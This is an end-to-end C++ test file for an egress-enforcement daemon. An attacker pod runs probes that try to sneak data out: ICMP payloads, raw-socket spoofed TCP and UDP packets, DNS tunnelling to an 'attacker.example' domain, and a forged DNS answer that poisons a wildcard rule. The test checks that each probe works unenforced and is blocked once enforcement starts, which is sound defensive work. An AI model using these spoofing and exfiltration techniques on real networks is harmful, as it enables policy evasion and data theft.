// The socket-hook boundary end to end (a pod cannot teach, spoof or slip past the socket hooks):
// egressd on the simulated node, an attacker pod with its own netns behind a veth, probes as uid 0
// with containerd's default capabilities (CAP_NET_RAW included) or as 65534 with none, each judged
// by what ARRIVES at a recorder on the internet side — never by the attacker's error codes. Every
// probe first runs with nothing enforcing and must arrive then (the self-test), so a probe that
// never worked cannot pass as blocked.
//
// The pod-interface layer runs too (it is part of egressd); where both layers stop a probe, this
// test proves the node stops it, and tests/bpf (Boundary.*, DnsProvenance.*) prove the socket
// layer's own part on crafted packets.
#include <gtest/gtest.h>

#include <arpa/inet.h>
#include <netinet/in.h>
#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <algorithm>
#include <chrono>
#include <cstring>
#include <functional>
#include <string>
#include <thread>
#include <vector>

#include "common/unique_handle.h"
#include "eventually.h"
#include "packet_builder.h"
#include "probes.h"
#include "root.h"
#include "sim_node.h"
#include "system.h"

namespace egress::e2e {
namespace {

using namespace std::chrono_literals;
using testlib::Bytes;
using testlib::DnsBuilder;
using testlib::eventually;
using testlib::PacketBuilder;

constexpr uint16_t kWildPort = 443;    // the port of the *.wild.example rule
constexpr uint16_t kAllowedPort = 123; // the allowed address's (a UDP listener)
constexpr uint16_t kLocalPort = 40053; // the attacker's query socket
constexpr uint16_t kQueryId = 0x5a5a;

// What a probe needs to know; it sends and returns 0 or an errno (the errno decides nothing).
struct Target {
	std::string pod_ip, denied, denied6, allowed, resolver, marker;
};

struct Probe {
	const char* name;
	Identity who;
	std::function<int(const Target&)> send;
	bool by_marker = true; // recorded by the marker in its bytes, else by destination (denied)
};

int send_raw(int family, int proto, const std::string& dst, const Bytes& bytes) {
	UniqueFd fd(socket(family, SOCK_RAW, proto));
	if (!fd)
		return errno;
	sockaddr_storage to{};
	socklen_t len = 0;
	if (family == AF_INET) {
		auto* a = reinterpret_cast<sockaddr_in*>(&to);
		a->sin_family = AF_INET;
		inet_pton(AF_INET, dst.c_str(), &a->sin_addr);
		len = sizeof(sockaddr_in);
	} else {
		auto* a = reinterpret_cast<sockaddr_in6*>(&to);
		a->sin6_family = AF_INET6;
		inet_pton(AF_INET6, dst.c_str(), &a->sin6_addr);
		len = sizeof(sockaddr_in6);
	}
	if (sendto(fd.get(), bytes.data(), bytes.size(), 0, reinterpret_cast<sockaddr*>(&to), len) < 0)
		return errno;
	return 0;
}

// ICMP/ICMPv6 message bytes: type, code, checksum 0 (the kernel fills ICMPv6's), rest, payload.
Bytes icmp_message(uint8_t type, const std::string& payload) {
	Bytes b(8 + payload.size(), 0);
	b[0] = type;
	std::copy(payload.begin(), payload.end(), b.begin() + 8);
	return b;
}

// An IP packet (no Ethernet header) for an IP_HDRINCL socket.
int send_hdrincl(const Bytes& packet, const std::string& dst) {
	return send_raw(AF_INET, IPPROTO_RAW, dst, packet);
}

UniqueFd udp_bound(const std::string& addr, uint16_t port) {
	UniqueFd fd(socket(AF_INET, SOCK_DGRAM, 0));
	int one = 1;
	setsockopt(fd.get(), SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	auto a = v4_sockaddr(addr, port);
	if (bind(fd.get(), reinterpret_cast<sockaddr*>(&a), sizeof(a)) != 0)
		return UniqueFd();
	return fd;
}

int send_udp(int fd, const std::string& dst, uint16_t port, const Bytes& payload) {
	auto to = v4_sockaddr(dst, port);
	return sendto(fd, payload.data(), payload.size(), 0, reinterpret_cast<sockaddr*>(&to), sizeof(to)) < 0
	           ? errno
	           : 0;
}

// The attacker asks the trusted resolver for a fresh allowed wildcard name and answers itself
// first, "from" the resolver, with the denied address; then connects there on the rule's port.
int self_taught_address(const Target& t) {
	UniqueFd q = udp_bound(t.pod_ip, kLocalPort);
	if (!q)
		return errno;
	std::string name = t.marker + ".wild.example";
	send_udp(q.get(), t.resolver, 53, DnsBuilder::query(kQueryId).question(name).build());
	Bytes forged =
	    PacketBuilder()
	        .ipv4(t.resolver, t.pod_ip)
	        .udp(53, kLocalPort)
	        .payload(
	            DnsBuilder::response(kQueryId).question(name).answer_a_ptr(12, t.denied, 3600).build())
	        .build();
	send_hdrincl(forged, t.pod_ip);
	std::this_thread::sleep_for(200ms);
	return tcp_hello(t.denied, kWildPort);
}

// A datagram spoofed to itself "from" denied:443, then "replies" to it from the same port.
int self_made_reply_state(const Target& t) {
	UniqueFd s = udp_bound("0.0.0.0", kLocalPort + 1);
	if (!s)
		return errno;
	Bytes spoofed =
	    PacketBuilder().ipv4(t.denied, t.pod_ip).udp(443, kLocalPort + 1).payload("ping").build();
	send_hdrincl(spoofed, t.pod_ip);
	std::this_thread::sleep_for(100ms);
	Bytes payload(t.marker.begin(), t.marker.end());
	return send_udp(s.get(), t.denied, 443, payload);
}

const std::vector<Probe>& probes() {
	static const std::vector<Probe> all = {
	    {"icmp echo reply with data", Identity::container_root,
	     [](const Target& t) {
		     return send_raw(AF_INET, IPPROTO_ICMP, t.denied, icmp_message(0, t.marker));
	     }},
	    {"icmp error with data", Identity::container_root,
	     [](const Target& t) {
		     return send_raw(AF_INET, IPPROTO_ICMP, t.denied, icmp_message(3, t.marker));
	     }},
	    {"icmpv6 echo reply with data", Identity::container_root,
	     [](const Target& t) {
		     return send_raw(AF_INET6, IPPROTO_ICMPV6, t.denied6, icmp_message(129, t.marker));
	     }},
	    {"icmpv6 neighbour solicitation to a global address", Identity::container_root,
	     [](const Target& t) {
		     return send_raw(AF_INET6, IPPROTO_ICMPV6, t.denied6, icmp_message(135, t.marker));
	     }},
	    {"tcp ack with data (hdrincl)", Identity::container_root,
	     [](const Target& t) {
		     return send_hdrincl(PacketBuilder()
		                             .ipv4(t.pod_ip, t.denied)
		                             .tcp(443, 40000)
		                             .ack()
		                             .payload(t.marker)
		                             .build(),
		                         t.denied);
	     }},
	    {"self-made udp reply state", Identity::container_root, self_made_reply_state},
	    {"dns tunnelling", Identity::nobody,
	     [](const Target& t) {
		     std::string first;
		     return dns_query(t.marker + ".attacker.example", t.resolver, first);
	     }},
	    {"self-taught address", Identity::container_root, self_taught_address, /*by_marker=*/false},
	};
	return all;
}

class PodBoundary : public ::testing::Test {
protected:
	void SetUp() override {
		EGRESS_REQUIRE_ROOT();
		node_ = std::make_unique<SimNode>();
		denied_ = node_->add_host("denied.example");
		allowed_ = node_->add_host("allowed.example");
		node_->add_host("a.wild.example");
		node_->start_resolver(SimNode::default_resolver(), {}, {}, /*ttl=*/1);
		pod_ = &node_->add_pod({.ns = "team-x", .name = "attacker-0"});
	}

	void start_enforcing() {
		NodeConfig c;
		c.mode = "enforce";
		c.extra = "allow:\n  - {cidr: \"" + allowed_ +
		          "/32\", ports: [udp/123]}\n"
		          "  - {fqdn: \"*.wild.example\", ports: [tcp/443]}\n"
		          "hostGuard: {rawSockets: off, objects: off}\n";
		node_->publish_config(node_->render(c));
		node_->start_egressd();
		ASSERT_TRUE(eventually([&] { return node_->status()["pods"]["guarded"] == 1; }))
		    << node_->status()["pods"].dump() << node_->egressd_log();
	}

	// Runs `p` from the pod; whether anything of it arrived on the internet side.
	bool arrives(const Probe& p) {
		Target t{pod_->ipv4(),
		         denied_,
		         kDenied6,
		         allowed_,
		         SimNode::default_resolver(),
		         testlib::unique_name("aegmark")};
		std::vector<std::string> to;
		if (!p.by_marker)
			to = {denied_};
		auto rec = node_->record(to, p.by_marker ? t.marker : "");
		int rc = pod_->run(p.who, [p, t] { return p.send(t); });
		(void)rc; // the attacker's error code decides nothing
		return !rec->frames(500ms).empty();
	}

	static constexpr const char* kDenied6 = "fd00:200::2"; // the internet side's; no IPv6 rule
	std::unique_ptr<SimNode> node_;
	Pod* pod_ = nullptr;
	std::string denied_, allowed_;
};

TEST_F(PodBoundary, EveryProbeArrivesWhenNothingEnforces) {
	for (const auto& p : probes())
		EXPECT_TRUE(arrives(p)) << p.name << ": the probe itself does not work";
}

TEST_F(PodBoundary, NothingOfAnyProbeArrivesAndNothingIsLearned) {
	start_enforcing();
	for (const auto& p : probes())
		EXPECT_FALSE(arrives(p)) << p.name;
	auto ips = node_->control("ips");
	EXPECT_EQ(ips.dump().find(denied_), std::string::npos) << "the pod taught the node: " << ips.dump();
	// Controls: the pod's legitimate traffic still flows.
	EXPECT_EQ(pod_->udp(allowed_, kAllowedPort), 0);
	std::string resolver = SimNode::default_resolver();
	EXPECT_EQ(pod_->run(Identity::nobody,
	                    [resolver] {
		                    std::string first;
		                    int rc = dns_query("a.wild.example", resolver, first);
		                    return rc ? rc : tcp_hello(first, kWildPort);
	                    }),
	          0)
	    << "an allowed wildcard name is still learned from the pod's own query\n"
	    << node_->egressd_log();
}

} // namespace
} // namespace egress::e2e
